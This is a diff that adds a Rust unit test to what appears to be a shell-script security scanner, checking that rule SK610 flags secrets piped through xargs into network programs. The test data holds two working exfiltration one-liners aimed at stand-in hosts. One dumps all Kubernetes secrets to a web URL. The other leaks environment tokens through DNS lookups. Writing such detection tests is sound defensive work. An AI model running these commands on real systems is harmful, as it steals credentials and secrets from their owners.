@@ -108,6 +108,25 @@ mod tests {
     }
 
     #[test]
+    fn secrets_carried_by_xargs_into_a_network_program() {
+        for text in [
+            "kubectl get secrets -A -o yaml | gzip | base64 -w0 | xargs -I{} wget -qO- \"https://k.example.net/?d={}\"\n",
+            "env | grep -iE 'key|token' | openssl base64 -A | fold -w 50 | xargs -I% nslookup %.t.example.com >/dev/null 2>&1\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found
+                    .iter()
+                    .any(|(c, s)| *c == "SK610" && *s >= Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+        // Lines of a file of names, looked up: nothing secret moves.
+        let found = rules("s.sh", "cat hosts.txt | xargs -n1 dig +short\n");
+        assert!(!found.iter().any(|(c, _)| *c == "SK610"), "{found:?}");
+    }
+
+    #[test]
     fn a_fetcher_with_nothing_to_fetch_names_the_pattern() {
         for (path, text) in [
             (
